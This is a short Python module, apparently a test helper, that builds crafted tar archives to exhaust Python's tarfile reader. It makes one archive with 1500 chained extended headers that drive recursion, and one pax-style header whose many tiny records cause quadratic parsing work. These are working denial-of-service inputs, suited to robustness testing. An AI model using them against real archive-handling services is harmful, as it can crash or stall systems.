"""Tars whose headers cost their reader far more than their size."""

import tarfile


def header(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0) -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.size = kind, size
    return info.tobuf(tarfile.USTAR_FORMAT)


def padded(content: bytes) -> bytes:
    return content + bytes(-len(content) % tarfile.BLOCKSIZE)


def chain(kind: bytes, body: bytes) -> bytes:
    """Return a file with 1500 headers before its own: tarfile calls itself for each."""
    return (header("x", kind, size=len(body)) + body) * 1500 + header("f")


def quadratic(size: int) -> bytes:
    """Return a file with a header of which tarfile makes a record at every second byte, as long as the rest."""
    body = b"2 " * (size // 2) + b"="
    return header("x", b"x", size=len(body)) + padded(body) + header("f")
